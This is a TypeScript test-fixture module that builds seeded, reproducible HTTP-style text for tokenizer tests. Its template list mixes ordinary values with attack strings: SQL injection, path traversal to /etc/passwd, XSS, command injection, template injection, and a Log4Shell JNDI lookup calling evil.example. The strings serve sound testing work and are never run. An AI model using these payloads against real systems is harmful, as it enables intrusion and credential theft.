/**
 * Deterministic, HTTP-flavoured training text for the tokenizer tests: attack fragments
 * (`select`, `../`, `<script`) mixed with ordinary values, from a seeded generator so every run
 * trains the same tokenizer.
 */

/** A small seeded PRNG (mulberry32): tests must not depend on Math.random. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const TEMPLATES = [
  "1' union select username, password from users--",
  "' or 1=1--",
  'select * from products where id={n}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '<script>alert({n})</script>',
  '<img src=x onerror=alert({n})>',
  '${jndi:ldap://evil.example/{w}}',
  '; cat /etc/passwd',
  '{{7*7}}',
  'john.{w}@example.com',
  '{w} {w} {w}',
  '/api/v{n}/{w}/{n}',
  'mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36',
  'page={n}&sort={w}',
  '{n}',
  'café crème – {w}',
  '東京 {w} 大阪',
  '👍 {w} 🎉',
];

const WORDS = [
  'search',
  'name',
  'user',
  'order',
  'blue',
  'shirt',
  'admin',
  'token',
  'select',
  'script',
  'value',
];

/**
 * `count` generated field values.
 *
 * @example
 * ```ts
 * const texts = httpCorpus(2000, 1);
 * ```
 */
export function httpCorpus(count: number, seed: number): string[] {
  const random = seededRandom(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const texts: string[] = [];
  for (let i = 0; i < count; i++) {
    texts.push(
      pick(TEMPLATES)
        .replace(/\{n\}/g, () => String(Math.floor(random() * 100000)))
        .replace(/\{w\}/g, () => pick(WORDS)),
    );
  }
  return texts;
}

/**
 * Text with many distinct chunks (made-up words from random syllables) for the performance
 * sanity test: `count` words, separated by spaces and punctuation.
 */
export function syllableCorpus(count: number, seed: number): string[] {
  const random = seededRandom(seed);
  const syllables: string[] = [];
  for (const c of 'bcdfghklmnprstvz') for (const v of 'aeiou') syllables.push(c + v);
  const texts: string[] = [];
  let line = '';
  for (let i = 0; i < count; i++) {
    const length = 1 + Math.floor(random() * 4);
    let word = '';
    // Skewed choice: low syllable indexes are far more frequent, as in real text.
    for (let s = 0; s < length; s++) word += syllables[Math.floor(random() * random() * syllables.length)]!;
    line += word + (random() < 0.1 ? '=' : random() < 0.1 ? '/' : ' ');
    if (line.length > 200) {
      texts.push(line);
      line = '';
    }
  }
  texts.push(line);
  return texts;
}
